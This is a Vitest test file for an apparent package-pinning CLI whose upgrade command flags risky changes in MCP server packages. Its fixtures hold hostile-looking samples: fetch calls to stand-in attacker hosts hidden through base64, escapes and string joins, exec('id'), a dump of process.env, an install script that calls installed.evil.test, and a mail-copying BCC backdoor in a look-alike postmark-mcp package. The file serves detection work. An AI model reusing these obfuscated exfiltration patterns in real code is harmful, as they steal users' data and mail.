import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { transformSync } from 'esbuild'
import { expect, it } from 'vitest'
import { expectSilence } from '../fixtures/internet/silence.ts'
import { COPY_TO, packageOf, programOf, type Version } from '../fixtures/postmark-mcp/versions.ts'
import { history } from '../fixtures/product/history.ts'
import { cli, text, upgradePlace } from '../fixtures/upgrade/place.ts'

const { here, server, run, pinned, started, pinFirst } = upgradePlace()

it('shows what differs and changes nothing; --yes takes it, and the next start runs it', async () => {
  const { internet, mcp, name } = here()
  await pinFirst(server('1.1.0', { files: { 'cli.js': `${cli('1.1.0')}fetch("https://new.host.test/")\n` } }))
  const before = await pinned()
  const shown = await expectSilence(internet, () => run('upgrade', name))
  expect(shown.code).toBe(1)
  const lines = text(shown).split('\n')
  expect(lines[0]).toBe(`${name} 1.0.0 -> 1.1.0`)
  expect(lines).toContain(`! new host in the code: https://new.host.test/  ${name}@1.1.0 cli.js:3`)
  expect(text(shown)).toContain('     3 + fetch("https://new.host.test/")')
  expect(text(shown)).toMatch(/published {4}2026-01-01 00:00 by ann, \d+ days ago/)
  expect(text(shown)).toContain(`${name}@1.0.0 stays as it is pinned; --yes takes what was shown`)
  expect(await pinned()).toEqual(before)
  expect(await started(name)).toBe('1.0.0')

  const dry = await run('upgrade', name, '--dry-run')
  expect([dry.code, await pinned()]).toEqual([1, before])

  const taken = await run('upgrade', name, '--yes')
  expect(taken.code).toBe(0)
  expect(text(taken)).toContain(`${name}@1.1.0 is pinned: the next start runs it`)
  expect(await pinned()).toMatchObject({ version: '1.1.0', replaces: '1.0.0', spec: name })
  expect(await started(name)).toBe('1.1.0')
  const again = await run('upgrade', name)
  expect([again.code, text(again)]).toEqual([0, `${name}@1.1.0 is what there is, and what is pinned\n`])

  const back = await run('upgrade', name, '1.0.0', '--yes')
  expect(text(back)).toContain(`${name} 1.1.0 -> 1.0.0`)
  expect(await started(name)).toBe('1.0.0')
  const { sessions } = history(mcp.store, name)
  expect(sessions.every(({ phase, end }) => end === 'exited' && ['install', 'run'].includes(phase))).toBe(
    true,
  )
})

it.each([
  ['as it was written', 'postmark-mcp', (version: Version) => packageOf(version).files?.['index.mjs'] ?? ''],
  [
    'minified, on a few lines',
    'mcp-postmark',
    (version: Version) => `#!/usr/bin/env node\n${transformSync(programOf(version), { minify: true }).code}`,
  ],
])('the line that copies every mail stands out, %s', async (_, copy, program) => {
  const { registry } = here()
  const version = (one: Version) => ({
    manifest: { ...packageOf(one).manifest, name: copy, version: one },
    files: { 'index.mjs': program(one) },
  })
  await registry.publish(version('1.0.15'))
  expect((await run('pin', copy, '--accept-name', copy)).code).toBe(0)
  await registry.publish(version('1.0.16'))
  const shown = await run('upgrade', copy)
  expect(shown.code).toBe(1)
  const all = text(shown).split('\n')
  const warnings = all.filter((line) => line.startsWith('!'))
  expect(warnings[0]).toBe(`! ${copy} is not @activecampaign/postmark-mcp, which many run`)
  expect(warnings[1]).toContain(`! new mail address in the code: ${COPY_TO}  ${copy}@1.0.16 index.mjs:`)
  expect(warnings[2]).toContain('! names a recipient whom others do not see (bcc)')
  expect(warnings).toHaveLength(3)
  const at = all.indexOf(warnings[1] ?? '')
  expect(all[at + 1]).toMatch(/\bBcc: ?["']phan@giftshop\.club["']/)
  expect(at).toBeLessThan(20)
  expect(all.length).toBeLessThan(40)
})

it('in a minified bundle: a host in plain text, one in base64, one in escapes, and what else is odd', async () => {
  const { name } = here()
  const bundle = (extra: string) => {
    const filler = Array.from({ length: 3000 }, (_, n) => `function f${n}(a){return a+${n}}`).join(';')
    return `#!/usr/bin/env node\n${filler};${extra};f1(2)\n`
  }
  const hidden = [
    'fetch("https://plain.attacker.test/x")',
    `fetch(atob("${Buffer.from('https://hidden.attacker.test/').toString('base64')}"))`,
    'fetch("\\x68\\x74\\x74\\x70\\x73://\\x65\\x73\\x63.attacker.test")',
    'fetch("https://jo"+"ined.atta"+"cker.test")',
    'require("child_process").exec("id")',
    'require("dgram")',
    'var _0x1a2b3c=JSON.stringify(process.env)',
  ].join(';')
  await pinFirst(
    server('1.1.0', { files: { 'cli.js': bundle(hidden) } }),
    server('1.0.0', { files: { 'cli.js': bundle('f2(1)') } }),
  )
  const shown = text(await run('upgrade', name))
  for (const line of [
    '! new host in the code: https://plain.attacker.test/x  ',
    '! new host in the code: https://hidden.attacker.test/ (written as base64)  ',
    '! new host in the code: https://esc.attacker.test/ (written as escape)  ',
    '! new host in the code: https://joined.attacker.test/ (written as assembled)  ',
    '! starts other programs (child_process)  ',
    '! opens connections of its own: dgram  ',
    '! reads all environment variables at once  ',
    '! has names as obfuscators write them (_0x…)  ',
  ])
    expect(shown).toContain(`\n${line}${name}@1.1.0 cli.js:2\n`)
})

it('another publisher is said first, and only a person takes it', async () => {
  const { name } = here()
  await pinFirst(server('1.1.0', { user: 'eve', maintainers: ['eve'] }))
  const shown = await run('upgrade', name)
  const warnings = text(shown)
    .split('\n')
    .filter((line) => line.startsWith('!'))
  expect(warnings.slice(0, 2)).toEqual(['! published by eve, before by ann', '! new maintainers: eve'])
  expect([shown.code, (await pinned()).version]).toEqual([1, '1.0.0'])
  expect((await run('upgrade', name, '--yes')).code).toBe(0)
  expect(await pinned()).toMatchObject({ version: '1.1.0', publisher: { user: 'eve' } })
})

it('a new dependency with an install script: nothing of it runs before it is accepted, nor after unless allowed', async () => {
  const { internet, mcp, name } = here()
  await pinFirst(server('1.1.0', { manifest: { dependencies: { helper: '1', marker: '1' } } }))
  const shown = await expectSilence(internet, () => run('upgrade', name, '--allow-scripts', 'marker'))
  expect(text(shown)).toContain(
    '! new install script of helper@1.0.0 (not run)\n      postinstall: node call.js\n',
  )
  expect(text(shown)).toContain(
    '! new install script of marker@1.0.0 (allowed: it runs once this is accepted)\n',
  )
  expect(text(shown)).toContain('! new host in the code: http://installed.evil.test/  helper@1.0.0 call.js:1')
  expect(text(shown)).toMatch(/Dependencies:\n {2}\+ helper@1\.0\.0\n {2}\+ marker@1\.0\.0\n/)
  expect(history(mcp.store, name).sessions).toHaveLength(2)

  const refused = await expectSilence(internet, () =>
    run('upgrade', name, '--yes', '--allow-scripts', 'helper'),
  )
  expect(refused.code).toBe(2)
  expect(refused.stderr.toString()).toContain(
    'the install script of helper@1.0.0 asked for DNS name installed.evil.test',
  )
  expect((await pinned()).version).toBe('1.0.0')

  const taken = await expectSilence(internet, () =>
    run('upgrade', name, '--yes', '--allow-scripts', 'marker'),
  )
  expect(taken.code).toBe(0)
  const pin = await pinned()
  expect(pin).toMatchObject({ version: '1.1.0', scripts: ['helper@1.0.0'], ranScripts: ['marker@1.0.0'] })
  expect(readFileSync(join(mcp.store, 'packages', pin.tree, 'node_modules/marker/ran.txt'), 'utf8')).toBe('x')
})

it('a registry that goes down on the way, a young version, a version that is not there: the pin is as it was', async () => {
  const { registry, mcp, name } = here()
  await pinFirst(server('1.1.0', { manifest: { dependencies: { helper: '1' } } }))
  const before = await pinned()
  registry.faults.set('helper', 'unavailable')
  const down = await run('upgrade', name, '--yes')
  expect([down.code, text(down)]).toEqual([2, ''])
  registry.faults.clear()
  await registry.publish(server('1.2.0', { published: new Date().toISOString() }))
  const young = await run('upgrade', name, '--yes', '--json')
  expect(young.code).toBe(2)
  expect(JSON.parse(text(young))).toMatchObject({
    state: 'refused',
    after: { version: '1.2.0' },
    refusal: { message: expect.stringContaining('is too little') },
  })
  expect((await run('upgrade', name, '7.7.7', '--yes')).code).toBe(2)
  expect((await run('upgrade', 'never-pinned')).stderr.toString()).toContain('never-pinned is not pinned')
  expect(await pinned()).toEqual(before)
  expect(readdirSync(join(mcp.store, 'packages/stage'))).toEqual([])
})
